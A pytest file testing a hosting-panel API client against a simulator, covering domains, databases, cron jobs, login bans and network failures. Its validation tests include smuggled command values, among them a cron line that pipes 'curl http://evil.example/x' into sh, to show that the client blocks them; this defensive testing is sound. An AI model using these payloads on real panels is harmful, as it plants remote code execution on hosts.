"""The panel client against the simulator: every call, every failure shape."""

from __future__ import annotations

import asyncio
import socket
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer
from panel_fixtures import (
    ALICE,
    ALICE_DB_LIMIT,
    ALICE_DOMAIN_LIMIT,
    BOB,
    ServerFactory,
    base_url,
    panel,
    panel_http,
    panel_server,
    panel_sim,
    sim_clock,
)

from bridge.domain.outcomes import (
    AlreadyExists,
    FailureReason,
    PermanentFailure,
    RetryableFailure,
    Succeeded,
    UnknownOutcome,
)
from bridge.panel.client import PanelClient
from bridge.panel.config import PanelCredentials, PanelServer
from bridge.panel.simulator import ManualClock, PanelSimulator

__all__ = ["panel", "panel_http", "panel_server", "panel_sim", "sim_clock"]

PASSWORD = "Db-Password-123"


async def raw_post(
    server: TestServer,
    path: str,
    data: Any = None,
    creds: PanelCredentials | None = ALICE,
    **kwargs: Any,
) -> tuple[int, str]:
    """A call as any HTTP client would make it, bypassing the bridge's checks."""
    headers = {"username": creds.username, "password": creds.password} if creds else {}
    async with (
        aiohttp.ClientSession() as session,
        session.post(server.make_url(path), data=data, headers=headers, **kwargs) as resp,
    ):
        return resp.status, await resp.text()


def failure(result: Any, reason: FailureReason) -> PermanentFailure:
    outcome = result.outcome
    assert isinstance(outcome, PermanentFailure), outcome
    assert outcome.reason is reason, outcome
    return outcome


# --- account information ------------------------------------------------------------


async def test_account_info_with_numeric_limits(panel: PanelClient) -> None:
    result = await panel.account_info(ALICE)
    assert isinstance(result.outcome, Succeeded)
    data = result.outcome.data
    assert data["limits"]["domain"] == {"limit": ALICE_DOMAIN_LIMIT, "used": 0}
    assert data["limits"]["db"] == {"limit": ALICE_DB_LIMIT, "used": 0}
    assert data["domain_limit"] == ALICE_DOMAIN_LIMIT  # the raw field is kept
    assert result.record.http_status == 200
    assert result.record.url.endswith("/api/")


async def test_account_info_unlimited_and_usage(panel: PanelClient) -> None:
    await panel.add_domain(BOB, "bob.example", "8.2")
    await panel.db_make(BOB, "shop", "shopuser", PASSWORD)
    result = await panel.account_info(BOB)
    assert isinstance(result.outcome, Succeeded)
    assert result.outcome.data["domain_limit"] == "Unlimited"
    assert result.outcome.data["limits"]["domain"] == {"limit": None, "used": 1}
    assert result.outcome.data["limits"]["db"] == {"limit": None, "used": 1}


async def test_account_without_package(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    panel_sim.add_account("carol", "Carol-Pass-333", has_package=False)
    result = await panel.account_info(PanelCredentials("carol", "Carol-Pass-333"))
    assert "package" in failure(result, FailureReason.OTHER).message


# --- authentication and the firewall ----------------------------------------------------


async def test_invalid_credentials_are_permanent(panel: PanelClient) -> None:
    result = await panel.domain_list(PanelCredentials("alice", "wrong-password"))
    outcome = failure(result, FailureReason.INVALID_CREDENTIALS)
    assert "will not retry" in outcome.message


async def test_api_disabled(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    panel_sim.set_api_enabled(False)
    result = await panel.add_domain(ALICE, "a.example", "8.2")
    failure(result, FailureReason.API_DISABLED)
    assert panel_sim.account("alice").domains == []


async def test_missing_credentials(panel: PanelClient, panel_http: TestServer) -> None:
    status, text = await raw_post(panel_http, "/api/domain_list/", creds=None)
    assert (status, text) == (200, '{"error": "Username and API key or password required"}')
    # The client never sends an empty password: it would count as a failed login.
    result = await panel.domain_list(PanelCredentials("alice", ""))
    assert "Not sent to the panel" in failure(result, FailureReason.INVALID_INPUT).message


async def test_firewall_bans_after_twelve_failed_logins(
    panel: PanelClient, panel_sim: PanelSimulator, sim_clock: ManualClock
) -> None:
    wrong = PanelCredentials("alice", "not-her-password")
    for _ in range(12):
        failure(await panel.account_info(wrong), FailureReason.INVALID_CREDENTIALS)
    banned = await panel.account_info(ALICE)  # right password, but the address is banned
    assert banned.record.http_status == 403
    assert "firewall" in failure(banned, FailureReason.FIREWALL).message
    sim_clock.advance(599)
    failure(await panel.domain_list(ALICE), FailureReason.FIREWALL)
    sim_clock.advance(2)
    assert isinstance((await panel.domain_list(ALICE)).outcome, Succeeded)


async def test_failed_logins_outside_the_window_do_not_ban(panel: PanelClient, sim_clock: ManualClock) -> None:
    wrong = PanelCredentials("alice", "not-her-password")
    for _ in range(11):
        await panel.account_info(wrong)
    sim_clock.advance(301)
    await panel.account_info(wrong)
    assert isinstance((await panel.account_info(ALICE)).outcome, Succeeded)


# --- transport ---------------------------------------------------------------------------


async def test_missing_slash_redirects_and_loses_the_body(panel_http: TestServer) -> None:
    form = {"domain": "a.example", "php_version": "8.2"}
    status, _ = await raw_post(panel_http, "/api/add_domain", form, allow_redirects=False)
    assert status == 301
    # A client that follows the redirect re-sends as GET, without the form.
    status, text = await raw_post(panel_http, "/api/add_domain", form)
    assert "POST method required" in text


async def test_client_treats_a_redirect_as_permanent(aiohttp_server: ServerFactory) -> None:
    async def moved(request: web.Request) -> web.Response:
        raise web.HTTPMovedPermanently(location="https://elsewhere.example:2083" + request.path)

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", moved)
    server = await aiohttp_server(app)
    async with PanelClient(PanelServer(name="moved", url=base_url(server))) as client:
        result = await client.add_domain(ALICE, "a.example", "8.2")
    outcome = failure(result, FailureReason.OTHER)
    assert "/api/add_domain/" in outcome.message
    assert "elsewhere.example" in outcome.message
    assert result.record.http_status == 301


async def test_unknown_path_is_html_404(panel_http: TestServer, panel_sim: PanelSimulator) -> None:
    status, text = await raw_post(panel_http, "/api/no_such_call/", {})
    assert status == 404 and text.startswith("<!doctype html>")
    prefixed = PanelServer(name="wrong", url=base_url(panel_http) + "/nope", timeout_s=1)
    async with PanelClient(prefixed) as client:
        assert isinstance((await client.domain_list(ALICE)).outcome, RetryableFailure)
        assert isinstance((await client.add_domain(ALICE, "a.example", "8.2")).outcome, UnknownOutcome)


async def test_json_bodies_are_ignored(panel_http: TestServer, panel_sim: PanelSimulator) -> None:
    _, text = await raw_post(panel_http, "/api/add_domain/", json={"domain": "a.example", "php_version": "8.2"})
    assert "Domain and PHP version are required." in text
    assert panel_sim.account("alice").domains == []


async def test_html_500_read_is_retryable(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    panel_sim.inject_fault("domain_list", "html500")
    result = await panel.domain_list(ALICE)
    assert isinstance(result.outcome, RetryableFailure)
    assert result.record.http_status == 500
    assert isinstance((await panel.domain_list(ALICE)).outcome, Succeeded)  # used once


async def test_html_500_mutation_is_unknown(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    panel_sim.inject_fault("add_domain", "html500")
    result = await panel.add_domain(ALICE, "a.example", "8.2")
    assert isinstance(result.outcome, UnknownOutcome)


@pytest.mark.parametrize("call", ["add_domain", "db_make", "cronjob_add", "domain_issue_ssl"])
async def test_connection_reset_mutation_is_unknown(panel: PanelClient, panel_sim: PanelSimulator, call: str) -> None:
    await panel.add_domain(BOB, "bob.example", "8.2")
    panel_sim.inject_fault(call, "reset")
    calls = {
        "add_domain": lambda: panel.add_domain(BOB, "a.example", "8.2"),
        "db_make": lambda: panel.db_make(BOB, "wp", "wpuser", PASSWORD),
        "cronjob_add": lambda: panel.cronjob_add(BOB, "*", "*", "*", "*", "*", "true"),
        "domain_issue_ssl": lambda: panel.domain_issue_ssl(BOB, "bob.example"),
    }
    result = await calls[call]()
    assert isinstance(result.outcome, UnknownOutcome), result.outcome
    assert result.record.http_status is None
    bob = panel_sim.account("bob")  # "reset" drops the request before doing anything
    assert [d.domain for d in bob.domains] == ["bob.example"]
    assert bob.databases == [] and bob.cron_lines is None


async def test_connection_reset_read_is_retryable(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    panel_sim.inject_fault("database_list", "reset")
    assert isinstance((await panel.database_list(ALICE)).outcome, RetryableFailure)


async def test_late_answer_is_unknown_but_the_domain_exists(panel_http: TestServer, panel_sim: PanelSimulator) -> None:
    impatient = PanelServer(name="sim", url=base_url(panel_http), timeout_s=0.2)
    panel_sim.inject_fault("add_domain", "late:0.5")
    async with PanelClient(impatient) as client:
        result = await client.add_domain(ALICE, "late.example", "8.2")
        assert isinstance(result.outcome, UnknownOutcome)
        assert "did not answer in time" in result.outcome.message
        listed = await client.domain_list(ALICE)  # what the engine does next: read back
    assert isinstance(listed.outcome, Succeeded)
    assert [d["domain"] for d in listed.outcome.data["domains"]] == ["late.example"]
    await asyncio.sleep(0.4)  # let the late handler finish before the server closes


async def test_reset_after_the_effect_is_unknown_and_the_effect_stays(
    panel: PanelClient, panel_sim: PanelSimulator
) -> None:
    panel_sim.inject_fault("db_make", "reset_after")
    result = await panel.db_make(ALICE, "wp", "wpuser", PASSWORD)
    assert isinstance(result.outcome, UnknownOutcome)
    assert panel_sim.account("alice").databases == ["alice_wp"]
    again = await panel.db_make(ALICE, "wp", "wpuser", PASSWORD)
    assert isinstance(again.outcome, AlreadyExists)


async def test_connection_refused_is_retryable_even_for_mutations() -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = PanelServer(name="down", url=f"http://127.0.0.1:{port}", timeout_s=1)
    async with PanelClient(server) as client:
        result = await client.add_domain(ALICE, "a.example", "8.2")
    assert isinstance(result.outcome, RetryableFailure)
    assert "nothing was sent" in result.outcome.message


# --- domains -------------------------------------------------------------------------------


async def test_add_and_list_domains(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    first = await panel.add_domain(ALICE, " Shop.Example.COM ", "8.2")
    second = await panel.add_domain(ALICE, "blog.example.org", "8.1", path="public_html/blog/")
    assert isinstance(first.outcome, Succeeded) and isinstance(second.outcome, Succeeded)
    assert first.record.request["domain"] == "shop.example.com"
    ids = [first.outcome.data["domain_id"], second.outcome.data["domain_id"]]
    assert ids[1] == ids[0] + 1
    listed = await panel.domain_list(ALICE)
    assert isinstance(listed.outcome, Succeeded)
    assert listed.outcome.data["domains"] == [
        {"id": ids[0], "domain": "shop.example.com", "path": "/home/alice/public_html"},
        {"id": ids[1], "domain": "blog.example.org", "path": "/home/alice/public_html/blog"},
    ]


async def test_domain_exists_across_accounts(panel: PanelClient) -> None:
    assert isinstance((await panel.add_domain(ALICE, "taken.example", "8.2")).outcome, Succeeded)
    result = await panel.add_domain(BOB, "taken.example", "8.2")
    assert isinstance(result.outcome, AlreadyExists)
    assert "taken.example" in result.outcome.message


async def test_domain_limit(panel: PanelClient) -> None:
    for n in range(ALICE_DOMAIN_LIMIT):
        assert isinstance((await panel.add_domain(ALICE, f"d{n}.example", "8.2")).outcome, Succeeded)
    failure(await panel.add_domain(ALICE, "one-too-many.example", "8.2"), FailureReason.LIMIT_EXCEEDED)


async def test_invalid_domain_is_never_sent(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    result = await panel.add_domain(ALICE, "evil.example;reboot", "8.2")
    assert "domain" in failure(result, FailureReason.INVALID_INPUT).message
    assert result.record.http_status is None
    assert panel_sim.snapshot()["counters"] == {}


async def test_ssl_fallback_then_success(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    await panel.add_domain(ALICE, "new.example", "8.2")
    panel_sim.fail_ssl("new.example", 1)
    first = await panel.domain_issue_ssl(ALICE, "new.example")
    assert isinstance(first.outcome, RetryableFailure)
    assert "self-signed" in first.outcome.message
    assert panel_sim.snapshot()["certificates"] == {"new.example": "self_signed"}
    second = await panel.domain_issue_ssl(ALICE, "new.example")
    assert isinstance(second.outcome, Succeeded)
    assert panel_sim.snapshot()["certificates"] == {"new.example": "issued"}


async def test_ssl_for_someone_elses_domain(panel: PanelClient) -> None:
    await panel.add_domain(BOB, "bobs.example", "8.2")
    failure(await panel.domain_issue_ssl(ALICE, "bobs.example"), FailureReason.NOT_FOUND)


# --- databases -----------------------------------------------------------------------------


async def test_db_make_and_lists(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    result = await panel.db_make(ALICE, "wp", "wpuser", PASSWORD)
    assert isinstance(result.outcome, Succeeded)
    assert result.record.request["dbname"] == result.record.request["db"] == "wp"
    dbs = await panel.database_list(ALICE)
    users = await panel.database_userlist(ALICE)
    assert isinstance(dbs.outcome, Succeeded) and isinstance(users.outcome, Succeeded)
    assert dbs.outcome.data == {"databases": ["alice_wp"]}
    assert users.outcome.data == {"users": ["alice_wpuser"]}


async def test_db_user_exists(panel: PanelClient) -> None:
    await panel.db_make(ALICE, "wp", "wpuser", PASSWORD)
    result = await panel.db_make(ALICE, "shop", "wpuser", PASSWORD)
    assert isinstance(result.outcome, AlreadyExists)
    assert "User already exists" in result.outcome.message


async def test_db_limit_counts_users_not_databases(
    panel: PanelClient, panel_http: TestServer, panel_sim: PanelSimulator
) -> None:
    # Databases made without a user do not count against the limit...
    for name in ("a1", "a2", "a3"):
        await raw_post(panel_http, "/api/db_make/", {"dbname": name})
    assert len(panel_sim.account("alice").databases) == 3
    for n in range(ALICE_DB_LIMIT):
        assert isinstance((await panel.db_make(ALICE, f"db{n}", f"u{n}", PASSWORD)).outcome, Succeeded)
    # ...users do.
    failure(await panel.db_make(ALICE, "db9", "u9", PASSWORD), FailureReason.LIMIT_EXCEEDED)


async def test_simulated_db_make_leaves_an_orphan_database(panel_http: TestServer, panel_sim: PanelSimulator) -> None:
    form = {"dbname": "wp", "dbuser": "wpuser", "dbpass": "short", "dbpassc": "short"}
    _, text = await raw_post(panel_http, "/api/db_make/", form)
    assert "Password must be at least 8 characters." in text
    assert panel_sim.account("alice").databases == ["alice_wp"]
    assert panel_sim.account("alice").db_users == []
    form["dbpass"] = form["dbpassc"] = PASSWORD
    _, text = await raw_post(panel_http, "/api/db_make/", form)
    assert "Database 'alice_wp' already exists." in text


async def test_simulated_db_make_ignores_the_documented_db_field(panel_http: TestServer) -> None:
    _, text = await raw_post(panel_http, "/api/db_make/", {"db": "wp", "dbuser": "wpuser"})
    assert "Database name is required." in text


@pytest.mark.parametrize(
    ("name", "user", "password"),
    [
        ("wp", "u", PASSWORD),
        ("wp", "wpuser", "short"),
        ("w", "wpuser", PASSWORD),
        ("wp;DROP", "wpuser", PASSWORD),
        ("wp", "wp user", PASSWORD),
        ("x" * 60, "wpuser", PASSWORD),
    ],
)
async def test_db_make_validation_prevents_the_call(
    panel: PanelClient, panel_sim: PanelSimulator, name: str, user: str, password: str
) -> None:
    result = await panel.db_make(ALICE, name, user, password)
    failure(result, FailureReason.INVALID_INPUT)
    assert result.record.http_status is None
    assert panel_sim.snapshot()["counters"] == {}
    assert panel_sim.account("alice").databases == []


# --- cron --------------------------------------------------------------------------------------


async def test_cron_add_list_and_substring_duplicates(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    command = "/usr/bin/php /home/alice/public_html/cron.php --all"
    added = await panel.cronjob_add(ALICE, "*/5", "*", "*", "*", "mon-fri", command)
    assert isinstance(added.outcome, Succeeded)
    found = await panel.cronjob_list(ALICE, f"*/5 * * * mon-fri {command}")
    assert isinstance(found.outcome, Succeeded)
    assert found.outcome.data == {"line_number": 1}
    missing = await panel.cronjob_list(ALICE, "0 3 * * * /bin/true")
    failure(missing, FailureReason.NOT_FOUND)
    # The panel's duplicate check is a substring test: a shorter, different command
    # counts as "already exists".
    shorter = await panel.cronjob_add(ALICE, "*/5", "*", "*", "*", "mon-fri", command[:-6])
    assert isinstance(shorter.outcome, AlreadyExists)
    assert panel_sim.account("alice").cron_lines == [f"*/5 * * * mon-fri {command}"]


async def test_cronjob_list_without_a_crontab(panel: PanelClient) -> None:
    result = await panel.cronjob_list(ALICE, "* * * * * /bin/true")
    assert result.record.http_status == 500
    failure(result, FailureReason.NOT_FOUND)


async def test_cron_injection_works_on_the_panel_but_the_client_refuses_it(
    panel: PanelClient, panel_http: TestServer, panel_sim: PanelSimulator
) -> None:
    evil = "/bin/true\n* * * * * curl -s http://evil.example/x | sh"
    form = {"minute": "0", "hour": "3", "day": "*", "month": "*", "weekday": "*", "comm": evil}
    await raw_post(panel_http, "/api/cronjob_add/", form, creds=BOB)
    assert panel_sim.account("bob").cron_lines == [
        "0 3 * * * /bin/true",
        "* * * * * curl -s http://evil.example/x | sh",
    ]
    result = await panel.cronjob_add(ALICE, "0", "3", "*", "*", "*", evil)
    failure(result, FailureReason.INVALID_INPUT)
    via_field = await panel.cronjob_add(ALICE, "0\n* * * * * id #", "3", "*", "*", "*", "/bin/true")
    failure(via_field, FailureReason.INVALID_INPUT)
    assert panel_sim.account("alice").cron_lines is None
    assert panel_sim.snapshot()["counters"] == {"cronjob_add": 1}  # bob's raw call only


async def test_cronjob_delete_on_the_simulator(
    panel: PanelClient, panel_http: TestServer, panel_sim: PanelSimulator
) -> None:
    await panel.cronjob_add(ALICE, "1", "*", "*", "*", "*", "/bin/one")
    await panel.cronjob_add(ALICE, "2", "*", "*", "*", "*", "/bin/two")
    _, text = await raw_post(panel_http, "/api/cronjob_delete/1/")
    assert "deleted successfully" in text
    found = await panel.cronjob_list(ALICE, "2 * * * * /bin/two")
    assert isinstance(found.outcome, Succeeded)
    assert found.outcome.data == {"line_number": 1}  # lines shift after a delete
    _, text = await raw_post(panel_http, "/api/cronjob_delete/5/")
    assert "Failed to delete" in text


# --- simulator knobs -------------------------------------------------------------------------


async def test_simulator_records_concurrent_mutations(panel: PanelClient, panel_sim: PanelSimulator) -> None:
    panel_sim.set_latency(0.1, "add_domain")
    await asyncio.gather(panel.add_domain(ALICE, "one.example", "8.2"), panel.add_domain(BOB, "two.example", "8.2"))
    state = panel_sim.snapshot()
    assert state["max_concurrent_mutations"] == 2
    assert state["counters"] == {"add_domain": 2}
    assert sorted(c["account"] for c in state["calls"]) == ["alice", "bob"]


async def test_simulator_is_driven_over_http(panel_http: TestServer) -> None:
    async def control(path: str, body: dict[str, Any]) -> dict[str, Any]:
        async with (
            aiohttp.ClientSession() as session,
            session.post(panel_http.make_url(path), json=body) as resp,
        ):
            assert resp.status == 200, await resp.text()
            result: dict[str, Any] = await resp.json()
            return result

    await control("/_sim/reset", {})
    await control("/_sim/accounts", {"username": "dave", "password": "Dave-Pass-1", "domain_limit": 1})
    await control("/_sim/faults", {"call": "domain_list", "fault": "html500"})
    await control("/_sim/api", {"enabled": True})
    await control("/_sim/latency", {"seconds": 0.01, "call": "*"})
    server = PanelServer(name="sim", url=base_url(panel_http), timeout_s=1)
    dave = PanelCredentials("dave", "Dave-Pass-1")
    async with PanelClient(server) as client:
        assert isinstance((await client.domain_list(dave)).outcome, RetryableFailure)
        assert isinstance((await client.add_domain(dave, "dave.example", "8.2")).outcome, Succeeded)
        await control("/_sim/ssl_failures", {"domain": "dave.example", "attempts": 1})
        assert isinstance((await client.domain_issue_ssl(dave, "dave.example")).outcome, RetryableFailure)
    await control("/_sim/clock", {"advance": 10})
    async with aiohttp.ClientSession() as session:
        async with session.get(panel_http.make_url("/_sim/state")) as resp:
            state = await resp.json()
        async with session.post(panel_http.make_url("/_sim/faults"), json={"call": "x", "fault": "boom"}) as resp:
            assert resp.status == 400
    assert list(state["accounts"]) == ["dave"]
    assert state["accounts"]["dave"]["domains"][0]["certificate"] == "self_signed"
    assert "password" not in state["accounts"]["dave"]
    assert state["counters"] == {"domain_list": 1, "add_domain": 1, "domain_issue_ssl": 1}


async def test_slow_read_is_retryable(panel_http: TestServer, panel_sim: PanelSimulator) -> None:
    panel_sim.set_latency(0.3, "domain_list")
    quick_reads = PanelServer(name="sim", url=base_url(panel_http), read_timeout_s=0.1)
    assert quick_reads.timeout_for("add_domain") == 120 and quick_reads.timeout_for("domain_issue_ssl") == 600
    async with PanelClient(quick_reads) as client:
        result = await client.domain_list(ALICE)
    assert isinstance(result.outcome, RetryableFailure)
    assert "did not answer in time" in result.outcome.message
    await asyncio.sleep(0.25)  # let the slow handler finish before the server closes


@pytest.mark.parametrize("password", ["line\nbreak", "carriage\rreturn", " blank at the start"])
async def test_a_password_no_header_can_carry_is_never_sent(
    panel: PanelClient, panel_sim: PanelSimulator, password: str
) -> None:
    # Stored before intake refused such passwords, or passed in some other way: sending it would
    # raise in the HTTP client, and the job would be given back and tried again for ever.
    result = await panel.add_domain(PanelCredentials(ALICE, password), "example.com", "8.2", "public_html")
    outcome = failure(result, FailureReason.INVALID_INPUT)
    assert outcome.message.startswith("Not sent to the panel: the account's password: ")
    assert password not in outcome.message and password.strip() not in repr(result.record)
    assert sum(panel_sim.state.counters.values()) == 0
